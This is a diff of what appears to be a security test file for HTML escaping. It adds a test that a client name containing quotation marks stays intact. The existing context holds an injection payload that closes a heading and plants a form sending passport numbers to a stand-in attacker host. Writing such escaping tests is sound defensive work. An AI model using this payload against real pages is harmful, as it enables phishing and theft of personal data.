@@ -45,3 +45,10 @@ def _():
     page = open_page('</h1><form action="https://evil.example">Your passport number: <input name="passport"></form>')
     forged = any(form.attributes.get("action", "").startswith("https://evil.example") for form in page.all("form"))
     return breached(forged, "the passport number of every client who believes the form")
+
+
+@attack("nobody attacks at all: a client has a nickname in quotation marks", input='Ana "Nana" Ruiz')
+def _():
+    field = open_page('Ana "Nana" Ruiz').find("input")
+    lost = field is None or field.attributes.get("value") != 'Ana "Nana" Ruiz'
+    return breached(lost, "a page that has lost half of her name, and takes the rest of it for attributes")
